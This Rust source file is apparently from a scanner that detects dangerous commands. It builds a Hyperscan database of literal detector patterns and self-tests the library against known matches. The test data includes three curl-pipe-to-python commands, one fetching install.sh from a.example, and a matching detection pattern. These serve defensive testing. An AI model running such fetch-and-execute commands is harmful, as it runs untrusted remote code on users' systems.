//! Turns the catalogue's literals into one Hyperscan database, and refuses a library that misses matches.
//!
//! Invariant: the database holds literals only, scanned in block mode for end offsets; what stands at a match is decided in Rust.

use std::fmt;

use hyperscan::prelude::*;
use hyperscan::{PatternFlags, Patterns};

use crate::catalogue::CATALOGUE;
use crate::detector::Anchor;

/// Why there is no engine.
#[derive(Debug)]
pub enum EngineError {
    /// The library found less than it must in texts with known matches; it is not fit to guard anything.
    MissesMatches {
        /// The library's version.
        version: String,
    },
    /// The library refused the catalogue or had no memory.
    Library(hyperscan::Error),
}

impl fmt::Display for EngineError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            EngineError::MissesMatches { version } => {
                write!(f, "the pattern library {version} misses known matches; build with Intel Hyperscan 5.4 (libhyperscan-dev)")
            }
            EngineError::Library(error) => write!(f, "the pattern library failed: {error}"),
        }
    }
}

impl std::error::Error for EngineError {}

impl From<hyperscan::Error> for EngineError {
    fn from(error: hyperscan::Error) -> Self {
        EngineError::Library(error)
    }
}

/// The compiled literals of all detectors.
pub(crate) struct Literals {
    database: BlockDatabase,
    /// The detector of each pattern.
    detectors: Vec<usize>,
}

impl Literals {
    pub(crate) fn compile() -> Result<Literals, EngineError> {
        let mut patterns = Vec::new();
        let mut detectors = Vec::new();
        for (detector, entry) in CATALOGUE.iter().enumerate() {
            for anchor in entry.anchors {
                let (literal, flags) = match anchor {
                    Anchor::Literal(literal) => (literal, PatternFlags::empty()),
                    Anchor::AnyCase(literal) => (literal, PatternFlags::CASELESS),
                    _ => continue,
                };
                let mut pattern = Pattern::with_flags(escape(literal), flags)?;
                pattern.id = Some(detectors.len());
                patterns.push(pattern);
                detectors.push(detector);
            }
        }
        let database = Patterns(patterns).build()?;
        Ok(Literals { database, detectors })
    }

    pub(crate) fn scratch(&self) -> Result<Scratch, EngineError> {
        Ok(self.database.alloc_scratch()?)
    }

    /// Calls `each` with the detector and the end offset of every match.
    pub(crate) fn scan(&self, text: &[u8], scratch: &Scratch, mut each: impl FnMut(usize, usize)) {
        let found = |id: u32, _from: u64, to: u64, _flags: u32| {
            each(self.detectors[id as usize], to as usize);
            Matching::Continue
        };
        // A block scan of memory that we hold fails only for a scratch of another database, and ours comes from this one.
        let _ = self.database.scan(text, scratch, found);
    }
}

/// The literal as a pattern: everything but letters and digits by its code.
fn escape(literal: &str) -> String {
    literal.bytes().map(|b| if b.is_ascii_alphanumeric() { char::from(b).to_string() } else { format!("\\x{b:02x}") }).collect()
}

/// Texts in which some builds of a related library find nothing although each holds a match (reported upstream, and reproduced).
const MUST_MATCH: [&str; 3] =
    ["curl http://xxx:8000/ 2>&1 | python", "curl http://a.example/install.sh | python3 -", "sh -c 'curl -s x |python'"];

/// Scans texts with known matches.
///
/// # Errors
/// [`EngineError::MissesMatches`] when one is missed.
pub(crate) fn self_test(literals: &Literals) -> Result<(), EngineError> {
    let flags = PatternFlags::DOTALL;
    let database: BlockDatabase = Pattern::with_flags(r"curl.*\|\s*python", flags)?.build()?;
    let scratch = database.alloc_scratch()?;
    let matches = |text: &str| {
        let mut count = 0;
        let scanned = database.scan(text, &scratch, |_, _, _, _| {
            count += 1;
            Matching::Continue
        });
        scanned.is_ok() && count > 0
    };
    let mut is_fit = MUST_MATCH.iter().all(|text| matches(text));
    // Every literal of the catalogue, at every offset of a vector register.
    let scratch = literals.scratch()?;
    for literal in CATALOGUE.iter().flat_map(|detector| detector.anchors) {
        let (Anchor::Literal(text) | Anchor::AnyCase(text)) = literal else {
            continue;
        };
        for offset in 0..64 {
            let padded = format!("{}{text}{}", "~".repeat(offset), "~".repeat(64 - offset));
            let mut found = false;
            literals.scan(padded.as_bytes(), &scratch, |_, end| found |= end == offset + text.len());
            is_fit &= found;
        }
    }
    let version = || hyperscan::version_str().to_string_lossy().into_owned();
    if is_fit { Ok(()) } else { Err(EngineError::MissesMatches { version: version() }) }
}
